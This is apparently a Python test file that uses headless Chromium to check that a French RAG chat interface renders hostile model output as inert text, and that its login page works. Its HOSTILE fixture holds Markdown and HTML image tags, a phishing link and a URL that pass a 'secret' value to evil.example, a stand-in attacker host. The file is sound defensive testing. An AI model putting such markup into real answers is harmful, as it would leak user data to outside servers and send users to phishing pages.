"""The page in headless Chromium with a model that answers hostile Markdown and HTML, and with a login.

What a model writes is shown as text: no image, no remote request, no link but
the citation chips and the sources' own addresses, while it streams and after.
"""

from pathlib import Path

import pytest

from conftest import ScriptedLLM
from servers import free_port

pytestmark = pytest.mark.slow
CHROMIUM = "/usr/bin/chromium"
ARTIFACTS = Path(__file__).resolve().parent.parent / "test-artifacts"
HOSTILE = (
    "Voici la réponse ![suivi](https://evil.example/pixel.png?q=secret) <img src=https://evil.example/i.png> "
    "[cliquez ici](https://evil.example/phish) https://evil.example/bare et $$x$$ [1]. "
    "La pêche au thon reprend à Sète [1]."
)


@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} not found — `make test` installs Debian's chromium")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(
            executable_path=CHROMIUM,
            headless=True,
            args=["--no-sandbox", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
        )
        yield b
        b.close()


def serve(tmp_path, **settings):
    from rag.config import load_settings
    from rag.models import llms
    from rag.pipeline import build
    from ui.app import launch

    llms.REGISTRY["hostile"] = lambda s: ScriptedLLM(HOSTILE)
    port = free_port()
    config = {
        "embedder.backend": "fake",
        "llm.backend": "hostile",
        "retrieval.min_relevance": -100.0,
        "ui.port": port,
        "data_dir": str(tmp_path / "data"),
        "models_dir": str(tmp_path / "models"),
        **settings,
    }
    pipeline = build(load_settings(config, environ={}))
    pipeline.add_text(
        "La pêche au thon reprend à Sète après la tempête, disent les pêcheurs du port. " * 3, source="Le Petit Port"
    )
    return launch(pipeline, block=False), f"http://127.0.0.1:{port}/"


def test_a_hostile_answer_loads_nothing_remote_while_it_streams(browser, tmp_path):
    app, url = serve(tmp_path)
    context = browser.new_context(locale="fr-FR")
    page = context.new_page()
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    try:
        page.goto(url)
        page.wait_for_selector("#nd-question textarea")
        images = []
        page.fill("#nd-question textarea", "Où la pêche au thon reprend-elle ?")
        page.keyboard.press("Enter")
        for _ in range(150):  # sample the chat while the answer streams and once it is checked
            images.append(page.locator("#nd-chat img").count())
            if page.locator("#nd-chat .nd-answer").count():
                break
            page.wait_for_timeout(100)
        page.wait_for_selector("#nd-chat .nd-answer")
        page.screenshot(path=str(ARTIFACTS / "hostile-answer.png"), full_page=True)
        remote = [u for u in requests if not u.startswith(url) and not u.startswith(("data:", "blob:"))]
        assert remote == []  # nothing left 127.0.0.1: no pixel, no image, no font
        assert max(images) == 0
        links = page.eval_on_selector_all("#nd-chat a", "els => els.map(e => e.getAttribute('href'))")
        assert all(h.startswith("#nd-src-") for h in links), links  # only citation chips are links in the answer
        assert (
            "evil.example" in page.locator("#nd-chat").inner_text()
            or "ne le disent pas" in page.locator("#nd-chat").inner_text()
        )
    finally:
        context.close()
        app.close()


def test_the_login_page_works_and_nothing_is_shown_before_it(browser, tmp_path):
    ARTIFACTS.mkdir(exist_ok=True)
    app, url = serve(tmp_path, **{"ui.auth": "alice:s3cret"})
    context = browser.new_context(locale="fr-FR")
    page = context.new_page()
    try:
        page.goto(url)
        page.wait_for_selector("input[type=password]", timeout=30000)
        assert page.locator("#nd-question").count() == 0
        page.screenshot(path=str(ARTIFACTS / "login.png"))
        page.locator("input[type=text]").first.fill("alice")
        page.locator("input[type=password]").fill("s3cret")
        page.keyboard.press("Enter")
        page.wait_for_selector("#nd-question textarea", timeout=30000)
    finally:
        context.close()
        app.close()
